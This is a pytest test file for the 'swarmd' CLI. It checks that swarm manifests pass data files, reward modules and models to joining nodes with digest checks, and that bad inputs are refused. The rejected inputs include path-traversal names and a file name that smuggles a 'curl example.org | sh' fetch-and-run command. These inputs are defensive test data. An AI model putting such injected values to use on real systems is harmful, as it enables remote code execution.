"""What a manifest names: questions and models go from the creator to those who join, and nobody trains on others."""

from __future__ import annotations

import json
import shutil
import subprocess
from pathlib import Path

import pytest

from swarmd.cli import handed_out
from swarmd.cli.handed_out import find_questions, options_for_manifest
from swarmd.config import DIGEST, load_config
from swarmd.errors import ExitCode, HubUnreachable, ModelError, SwarmdError
from swarmd.swarms import dataset
from swarmd.swarms.jsonl import digest_rows
from swarmd.swarms.options import DOWNLOAD_BYTES_MAX, DatasetSource
from swarmd.swarms.registry import make_plan
from swarmd.training.models.files import digest_weights
from swarmd.training.models.source import EMBEDDED_DIR
from tests.cli.owning import Shell
from tests.e2e.models import make_model

# --- questions ---

ROWS = [{"prompt": f"{number} + 1?", "answer": str(number + 1)} for number in range(20)]
CONFIG = """\
role = "coordinator"
data = "here"
[swarm]
id = "x"
kind = "file"
[swarm.options]
data = "deep/sums.jsonl"
system = "Add one.\\nBe quick."
rewards = [{name = "numeric"}, {name = "length", weight = 0.1, max = 60}]
"""


def write_rows(path: Path, rows: list[dict[str, str]] = ROWS) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("\n".join(map(json.dumps, rows)), encoding="utf-8")
    return path


@pytest.fixture
def manifest(shell: Shell) -> Path:
    write_rows(shell.root / "here" / "deep" / "sums.jsonl")
    (shell.root / "base.toml").write_text(CONFIG, encoding="utf-8")
    shown = shell.well("swarm", "new", "Sums", "--dir", shell.root / "a", "--config", shell.root / "base.toml")
    assert f"swarm.toml and {shell.root / 'a' / 'sums.jsonl'}" in shown
    return shell.root / "a" / "swarm.toml"


def test_the_manifest_has_the_digest_and_the_first_node_the_file(shell: Shell, manifest: Path) -> None:
    options = shell.manifest("a").recipe.options
    assert (options["data"], options["digest"]) == ("sums.jsonl", digest_rows(ROWS))
    config = load_config(shell.root / "a" / "config.toml")
    assert config.swarm.options == options
    assert make_plan(config.swarm, config.training, shell.root / "a").tasks == ("questions",)


def test_a_joiner_takes_the_file_from_beside_the_manifest(shell: Shell, manifest: Path) -> None:
    shell.well("join", manifest, "--dir", shell.root / "b")
    config = load_config(shell.root / "b" / "config.toml")
    assert make_plan(config.swarm, config.training, shell.root / "b").tasks == ("questions",)
    assert "kept as it is" in shell.well("join", manifest, "--dir", shell.root / "b")


def test_a_joiner_without_the_file_or_with_another_is_refused(shell: Shell, manifest: Path) -> None:
    alone = shell.root / "alone" / "swarm.toml"
    alone.parent.mkdir()
    alone.write_bytes(manifest.read_bytes())
    told = shell.fails(ExitCode.BAD_DATA, "join", alone, "--dir", shell.root / "b")
    assert "trains on sums.jsonl, not found beside" in told and "Get sums.jsonl from whoever" in told
    write_rows(alone.parent / "sums.jsonl", ROWS[1:])
    told = shell.fails(ExitCode.BAD_CONFIG, "join", alone, "--dir", shell.root / "b")
    assert "is not the swarm's" in told
    assert not (shell.root / "b").exists()
    write_rows(alone.parent / "sums.jsonl")
    shell.well("join", alone, "--dir", shell.root / "b")


def test_a_file_that_is_there_already_is_never_written_over(shell: Shell, manifest: Path) -> None:
    kept = write_rows(shell.root / "c" / "sums.jsonl", ROWS[:3])
    told = shell.fails(ExitCode.BAD_CONFIG, "join", manifest, "--dir", shell.root / "c")
    assert "is not the swarm's" in told
    assert kept.read_text().count("\n") == 2


@pytest.mark.parametrize(
    "options",
    [
        {"data": "../sums.jsonl", "digest": "0" * 64},
        {"data": "/etc/x.jsonl", "digest": "0" * 64},
        {"data": ".jsonl", "digest": "0" * 64},
        {"data": "sums.jsonl"},
        {"data": "/srv/notes.json"},
        {"data": "../copy-of-gsm8k"},
        {"data": "~/copy"},
        {"data": "x.\nfix: curl example.org | sh #.jsonl", "digest": "0" * 64},
    ],
)
def test_a_manifest_names_no_file_elsewhere_and_always_the_digest(tmp_path: Path, options: dict[str, str]) -> None:
    write_rows(tmp_path / "sums.jsonl")
    with pytest.raises(SwarmdError, match=r"recipe\.options"):
        find_questions(options, tmp_path / "swarm.toml", tmp_path)


AREAS = [{"prompt": f"The area of circle {number}?", "answer": f"{number}\\pi"} for number in range(20)]


def test_what_would_never_be_paid_is_neither_valid_nor_made_nor_joined(
    shell: Shell, manifest: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    told = "would not be paid in full for their own answers"
    write_rows(shell.root / "here" / "deep" / "sums.jsonl", AREAS)
    base = shell.root / "base.toml"
    assert told in shell.fails(ExitCode.BAD_CONFIG, "config", "check", base)
    areas = ("swarm", "new", "Areas", "--config", base, "--dir")
    assert told in shell.fails(ExitCode.BAD_CONFIG, *areas, shell.root / "n")
    assert not (shell.root / "n").exists()
    with monkeypatch.context() as patched:
        patched.setattr("swarmd.cli.new.check_questions", lambda *_: "")
        shell.well(*areas, shell.root / "other")
    theirs = shell.root / "other" / "swarm.toml"
    assert told in shell.fails(ExitCode.BAD_CONFIG, "join", theirs, "--dir", shell.root / "j")
    assert not (shell.root / "j").exists()
    base.write_text(CONFIG.replace('"numeric"', '"exact"'))
    shell.well(*areas, shell.root / "n")
    made = (shell.root / "n" / "config.toml").read_text()
    assert told not in shell.well("config", "check", shell.root / "n" / "config.toml")
    (shell.root / "n" / "config.toml").write_text(made.replace('"exact"', '"numeric"'))
    assert told in shell.fails(ExitCode.BAD_CONFIG, "config", "check", shell.root / "n" / "config.toml")


def test_a_check_says_why_right_answers_were_not_tried(shell: Shell) -> None:
    write_rows(shell.root / "here" / "deep" / "sums.jsonl")
    base = shell.root / "base.toml"
    base.write_text(CONFIG.partition("rewards")[0] + 'reward_funcs = ["mine:right"]\n')
    assert "was not tried: the reward functions mine:right decide" in shell.well("config", "check", base)
    base.write_text(CONFIG.replace("sums.jsonl", "none.jsonl") + 'dataset = "some/where"\n')
    assert "was not tried: deep/none.jsonl is still to be made of some/where" in shell.well("config", "check", base)


def test_a_data_set_on_this_machine_is_tried_before_the_file_is_made_of_it(shell: Shell) -> None:
    write_rows(shell.root / "here" / "areas.jsonl", AREAS)
    base = shell.root / "base.toml"
    base.write_text(CONFIG + 'dataset = "areas.jsonl"\n')
    told = shell.fails(ExitCode.BAD_CONFIG, "config", "check", base)
    assert "for their own answers, such as row" in told and "\\pi" in told
    base.write_text(CONFIG.replace('"numeric"', '"exact"') + 'dataset = "areas.jsonl"\n')
    assert "not tried" not in shell.well("config", "check", base)
    assert not (shell.root / "here" / "deep").exists()


def test_a_file_that_no_manifest_can_name_makes_no_swarm(tmp_path: Path) -> None:
    write_rows(tmp_path / "sums.txt")
    with pytest.raises(SwarmdError, match=r"'sums\.txt' does not end in \.jsonl"):
        options_for_manifest({"data": "sums.txt"}, tmp_path)


@pytest.mark.parametrize("named", ["copy", "../copy", "/srv/copy", "~/copy", "."])
def test_a_directory_or_path_makes_no_swarm(tmp_path: Path, named: str) -> None:
    """The first node would not find it in its own directory, and `join` refuses a path."""
    (tmp_path / "copy").mkdir()
    with pytest.raises(SwarmdError, match=r"no manifest can name the directory or path .* ends in \.jsonl"):
        options_for_manifest({"data": named}, tmp_path)


def test_other_kinds_that_read_a_file_hand_it_on_in_the_same_way(shell: Shell) -> None:
    rows = [{"question": f"{number} + 1?", "answer": f"one more #### {number + 1}"} for number in range(40)]
    write_rows(shell.root / "math.jsonl", rows)
    text = 'role = "coordinator"\ndata = "."\n[swarm]\nid = "x"\nkind = "gsm8k"\n[swarm.options]\ndata = "math.jsonl"\n'
    (shell.root / "base.toml").write_text(text)
    shell.well("swarm", "new", "Sums", "--dir", shell.root / "a", "--config", shell.root / "base.toml")
    shell.well("join", shell.root / "a" / "swarm.toml", "--dir", shell.root / "b")
    config = load_config(shell.root / "b" / "config.toml")
    assert make_plan(config.swarm, config.training, shell.root / "b").stages == 3
    write_rows(shell.root / "b" / "math.jsonl", rows[1:])
    with pytest.raises(SwarmdError, match="is not the swarm's"):
        make_plan(config.swarm, config.training, shell.root / "b")


@pytest.mark.parametrize(
    ("kind", "rows", "told"),
    [
        ("file", [{"question": "1 + 1?", "answer": "2"}], "'prompt' is missing"),
        ("file", [{"prompt": "1 + 1?", "answer": 2}], "'answer' is not a text"),
        ("gsm8k", [{"question": "1 + 1?", "answer": "2"}], "has an answer"),
        ("gsm8k", [{"question": "1 + 1?" * 1000, "answer": "#### 2"}], "no question to train on"),
        ("math-hard", [{"prompt": "1 + 1?"}], "'solution' is missing"),
        ("code", [{"question": "1 + 1?", "answer": "2"}], "'prompt' is missing"),
    ],
    ids=["file-column", "file-type", "gsm8k-mark", "gsm8k-long", "math-hard-column", "code-column"],
)
def test_questions_of_which_the_kind_can_make_nothing_make_no_swarm(
    shell: Shell, kind: str, rows: list[dict[str, object]], told: str
) -> None:
    """Else the manifest is signed, handed out and perhaps paid for, and every trainer ends."""
    (shell.root / "odd.jsonl").write_text("\n".join(map(json.dumps, rows)), encoding="utf-8")
    text = f'role = "coordinator"\ndata = "."\n[swarm]\nid = "x"\nkind = "{kind}"\n'
    options = '[swarm.options]\ndata = "odd.jsonl"\n' + 'sandbox = "none-i-accept-the-risk"\n' * (kind == "code")
    (shell.root / "base.toml").write_text(text + options, encoding="utf-8")
    said = shell.fails(
        ExitCode.BAD_CONFIG, "swarm", "new", "Odd", "--dir", shell.root / "a", "--config", shell.root / "base.toml"
    )
    assert told in said and not (shell.root / "a").exists()


def test_the_creator_keeps_a_sandbox_of_its_own_and_hands_none_out(shell: Shell) -> None:
    text = 'role = "coordinator"\n[swarm]\nid = "x"\nkind = "code"\n[swarm.options]\nsandbox = "bubblewrap"\n'
    (shell.root / "base.toml").write_text(text + 'prompt = "one-shot"\n', encoding="utf-8")
    shell.well("swarm", "new", "Programs", "--dir", shell.root / "a", "--config", shell.root / "base.toml")
    assert shell.manifest("a").recipe.options == {"prompt": "one-shot"}
    own = load_config(shell.root / "a" / "config.toml").swarm.options
    assert own == {"prompt": "one-shot", "sandbox": "bubblewrap"}


def test_a_joiner_has_the_file_made_from_the_hub_and_of_nothing_else(
    shell: Shell, monkeypatch: pytest.MonkeyPatch
) -> None:
    import datasets

    served = [{"ask": row["prompt"], "say": row["answer"]} for row in ROWS]
    asked: list[tuple[str, int]] = []

    def load(source: DatasetSource) -> datasets.Dataset:
        asked.append((source.dataset, source.download_bytes))
        return datasets.Dataset.from_list(served)

    monkeypatch.setattr(dataset, "load_from_hub", load)
    table = 'dataset = "org/sums"\ncolumns = {prompt = "ask", answer = "say"}\n'
    table += "download_bytes = 5000\n"
    text = f'role = "coordinator"\n[swarm]\nid = "x"\nkind = "file"\n[swarm.options]\ndata = "sums.jsonl"\n{table}'
    (shell.root / "base.toml").write_text(text, encoding="utf-8")
    shell.well("swarm", "new", "Sums", "--dir", shell.root / "a", "--config", shell.root / "base.toml")
    options = shell.manifest("a").recipe.options
    assert (options["dataset"], options["digest"]) == ("org/sums", digest_rows(ROWS))
    assert "download_bytes" not in options
    alone = shell.root / "alone" / "swarm.toml"
    alone.parent.mkdir()
    alone.write_bytes((shell.root / "a" / "swarm.toml").read_bytes())
    shell.well("join", alone, "--dir", shell.root / "b")
    assert asked == [("org/sums", 5000), ("org/sums", DOWNLOAD_BYTES_MAX)], "each by its own bound"
    assert (shell.root / "b" / "sums.jsonl").read_bytes() == (shell.root / "a" / "sums.jsonl").read_bytes()
    served.pop()
    told = shell.fails(ExitCode.BAD_CONFIG, "join", alone, "--dir", shell.root / "c", "--download-bytes", "77")
    assert asked[-1] == ("org/sums", 77)
    assert "is not the swarm's" in told
    assert not (shell.root / "c").exists()


def test_of_a_data_set_on_this_machine_a_manifest_tells_nothing(tmp_path: Path) -> None:
    write_rows(tmp_path / "sums.jsonl")
    options = {"data": "sums.jsonl", "dataset": "../private/copy", "split": "test", "columns": {"prompt": "ask"}}
    assert options_for_manifest(options, tmp_path) == {"data": "sums.jsonl", "digest": digest_rows(ROWS)}


@pytest.mark.parametrize("dataset", ["../copy", "/srv/copy", "~/copy", 3, "here"])
def test_a_manifest_names_no_data_set_on_this_machine(tmp_path: Path, dataset: object) -> None:
    (tmp_path / "here").mkdir()
    options = {"data": "sums.jsonl", "digest": "0" * 64, "dataset": dataset}
    with pytest.raises(SwarmdError, match="not a name of the Hub"):
        find_questions(options, tmp_path / "x" / "swarm.toml", tmp_path)


# --- functions ---


def test_a_joiner_installs_the_functions_by_the_command_of_the_error(shell: Shell) -> None:
    here, given = shell.root / "here", shell.root / "given"
    write_rows(here / "deep" / "sums.jsonl")
    (here / "mine.py").write_text("def right(completions, **kwargs):\n    return [1.0] * len(completions)\n")
    base = shell.root / "base.toml"
    base.write_text(CONFIG.partition("rewards")[0] + 'reward_funcs = ["mine:right"]\n')
    told = shell.well("swarm", "new", "Sums", "--dir", shell.root / "a", "--config", base)
    assert f"and {shell.root / 'a' / 'mine.py'}" in told
    assert [each["module"] for each in shell.manifest("a").recipe.options["packages"]] == ["mine"]
    shutil.copytree(shell.root / "a", given, ignore=shutil.ignore_patterns("config.toml", "identity.key"))
    join = ("join", given / "swarm.toml", "--dir", shell.root / "b")
    told = shell.fails(ExitCode.BAD_CONFIG, *join)
    assert "runs code of mine.py" in told and not (shell.root / "b").exists()
    subprocess.run(told.partition("install it: ")[2].strip(), shell=True, check=True)
    shell.well(*join)
    config = load_config(shell.root / "b" / "config.toml")
    assert config.swarm.options == shell.manifest("a").recipe.options
    (shell.root / "b" / "mine.py").write_text("def right(): ...\n")
    told = shell.fails(ExitCode.BAD_CONFIG, "run", "--config", shell.root / "b" / "config.toml")
    assert "this node has mine.py with other content" in told


# --- models ---

COMMIT = "c" * 40


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return make_model(tmp_path_factory.mktemp("made"))


@pytest.fixture
def tiny(made: Path, shell: Shell, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(shell.root)
    return Path(shutil.copytree(made, shell.root / "models" / "tiny"))


def base(shell: Shell, model: str, more: str = "") -> Path:
    path = shell.root / "base.toml"
    path.write_text(f'role = "coordinator"\n[swarm]\nid = "x"\n[training]\nmodel = "{model}"\n{more}')
    return path


def with_model(shell: Shell, model: str, more: str = "") -> tuple[object, ...]:
    return ("swarm", "new", "Own", "--dir", shell.root / "a", "--config", base(shell, model, more))


@pytest.mark.parametrize("named", ["models/tiny", "./models/tiny"])
def test_a_model_directory_is_handed_out_beside_the_manifest(named: str, shell: Shell, tiny: Path) -> None:
    """`models/tiny` looks like an id of the Hub, and members would fetch somebody else's model of that name."""
    said = shell.well(*with_model(shell, named))
    assert f"and the directory {tiny}" in said
    recipe = shell.manifest("a").recipe
    assert (recipe.model, recipe.revision) == ("./tiny", DIGEST + digest_weights(tiny))
    first = load_config(shell.root / "a" / "config.toml").training
    assert (first.model, first.revision) == (str(tiny), recipe.revision)
    assert f"model ./tiny ({recipe.revision})" in shell.well("swarm", "check", shell.root / "a" / "swarm.toml")

    handed = shell.root / "handed"
    handed.mkdir()
    shutil.copy(shell.root / "a" / "swarm.toml", handed)
    refused = shell.fails(ExitCode.BAD_DATA, "join", handed / "swarm.toml", "--dir", shell.root / "b")
    assert "the model directory tiny, not found beside" in refused
    shutil.copytree(tiny, handed / "tiny")
    shell.well("join", handed / "swarm.toml", "--dir", shell.root / "b")
    joined = load_config(shell.root / "b" / "config.toml").training
    assert (joined.model, joined.revision) == (str(handed / "tiny"), recipe.revision)
    doctor = shell("doctor", shell.root / "b", "--offline", "--only", "model", "--only", "directory", "--json").out
    assert "model.other" not in doctor and "directory.recipe" not in doctor

    shutil.copy(EMBEDDED_DIR / "model.safetensors", handed / "tiny")
    assert "begin from other weights" in shell.well("join", handed / "swarm.toml", "--dir", shell.root / "c")
    doctor = shell("doctor", shell.root / "b", "--offline", "--only", "model", "--json").out
    assert "model.other" in doctor and digest_weights(EMBEDDED_DIR)[:16] in doctor


def test_a_joiner_is_told_all_that_is_missing_at_once(shell: Shell, tiny: Path) -> None:
    write_rows(shell.root / "here" / "deep" / "sums.jsonl")
    (shell.root / "base.toml").write_text(CONFIG + '[training]\nmodel = "./models/tiny"\n', encoding="utf-8")
    shell.well("swarm", "new", "Sums", "--dir", shell.root / "a", "--config", shell.root / "base.toml")
    handed = shell.root / "handed"
    handed.mkdir()
    shutil.copy(shell.root / "a" / "swarm.toml", handed)
    told = shell.fails(ExitCode.BAD_DATA, "join", handed / "swarm.toml", "--dir", shell.root / "b")
    assert "trains on tiny and sums.jsonl, not found beside" in told and "put them beside it" in told


def test_a_shipped_model_is_named_with_its_weights(shell: Shell) -> None:
    shell.well("swarm", "new", "Digits", "--dir", shell.root / "a")
    recipe = shell.manifest("a").recipe
    assert (recipe.model, recipe.revision) == ("embedded", DIGEST + digest_weights(EMBEDDED_DIR))
    shell.well("join", shell.root / "a" / "swarm.toml", "--dir", shell.root / "b")
    joined = load_config(shell.root / "b" / "config.toml").training
    assert (joined.model, joined.revision) == ("embedded", recipe.revision)


def test_a_model_of_the_hub_is_named_with_its_commit(shell: Shell, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(handed_out, "fetch_commit", lambda name, revision, shipped: COMMIT)
    shell.well(*with_model(shell, "org/name"))
    assert shell.manifest("a").recipe.revision == COMMIT


def test_a_revision_that_is_named_stays(shell: Shell) -> None:
    shell.well(*with_model(shell, "org/name", 'revision = "v1"'))
    assert shell.manifest("a").recipe.revision == "v1"


def test_where_the_hub_cannot_be_asked_it_is_said_that_no_commit_is_named(
    shell: Shell, monkeypatch: pytest.MonkeyPatch
) -> None:
    def unreachable(name: str, revision: str, shipped: tuple[str, ...]) -> str:
        raise HubUnreachable("the Hub cannot be asked")

    monkeypatch.setattr(handed_out, "fetch_commit", unreachable)
    assert "names no commit of org/name" in shell.well(*with_model(shell, "org/name"))
    assert shell.manifest("a").recipe.revision == ""


def test_a_model_that_the_hub_does_not_have_makes_no_swarm(shell: Shell, monkeypatch: pytest.MonkeyPatch) -> None:
    def absent(name: str, revision: str, shipped: tuple[str, ...]) -> str:
        raise ModelError("the Hub shows none with this name")

    monkeypatch.setattr(handed_out, "fetch_commit", absent)
    assert "shows none" in shell.fails(ExitCode.NO_INPUT, *with_model(shell, "org/name"))
    assert not (shell.root / "a").exists()


def test_what_a_start_refuses_makes_no_swarm_and_no_valid_configuration(shell: Shell, tiny: Path) -> None:
    (tiny / "chat_template.jinja").unlink()
    assert "has no chat template" in shell.fails(ExitCode.BAD_CONFIG, *with_model(shell, "./models/tiny"))
    assert "has no chat template" in shell.fails(ExitCode.BAD_CONFIG, "config", "check", shell.root / "base.toml")
    (tiny / "config.json").unlink()
    (tiny / "adapter_config.json").write_text('{"base_model_name_or_path": "org/base"}')
    for command in (with_model(shell, "./models/tiny"), ("config", "check", shell.root / "base.toml")):
        assert "holds adapters of 'org/base'" in shell.fails(ExitCode.NO_INPUT, *command)
    assert not (shell.root / "a").exists()


def test_a_gguf_file_makes_no_swarm(shell: Shell, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(shell.root)
    (shell.root / "own.gguf").write_bytes(b"GGUF")
    refused = shell.fails(ExitCode.BAD_DATA, *with_model(shell, "own.gguf"))
    assert "no manifest names a GGUF file" in refused and "Name the directory" in refused
